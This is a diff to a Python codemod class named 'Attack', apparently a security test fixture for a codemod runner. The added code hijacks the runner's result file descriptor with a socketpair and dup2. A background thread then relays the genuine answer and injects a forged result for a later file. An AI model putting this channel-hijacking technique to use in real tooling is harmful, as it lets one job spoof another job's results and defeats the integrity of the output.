@@ -1,6 +1,7 @@
 """Leave a thread behind that answers for a later file as soon as its own answer is out."""
 
 import os
+import socket
 import struct
 import sys
 import threading
@@ -19,22 +20,26 @@ def descriptor():
     return frame.f_locals["descriptor"]
 
 
-def wait_and_answer(channel):
-    while "transform_module" in {frame.f_code.co_name for frame in frames()}:
-        pass
+def take(ear, size):
+    parts = b""
+    while len(parts) < size:
+        parts += ear.recv(size - len(parts))
+    return parts
+
+
+def pass_on_and_answer(channel, ear):
+    lengths = take(ear, 8)
+    os.write(channel, lengths + take(ear, sum(struct.unpack(">II", lengths))))
     os.write(channel, struct.pack(">II", len(HEADER), 7) + HEADER + b"forged\n")
-
-
-def frames():
-    frame = sys._current_frames().get(threading.main_thread().ident)
-    while frame is not None:
-        yield frame
-        frame = frame.f_back
 
 
 class Attack(VisitorBasedCodemodCommand):
     DESCRIPTION = "Answer later."
 
     def transform_module_impl(self, tree):
-        threading.Thread(target=wait_and_answer, args=(descriptor(),), daemon=True).start()
+        # Between the two ends of the connection nothing is a matter of who comes first.
+        ear, mouth = socket.socketpair()
+        channel = os.dup(descriptor())
+        os.dup2(mouth.detach(), descriptor())
+        threading.Thread(target=pass_on_and_answer, args=(channel, ear), daemon=True).start()
         return tree
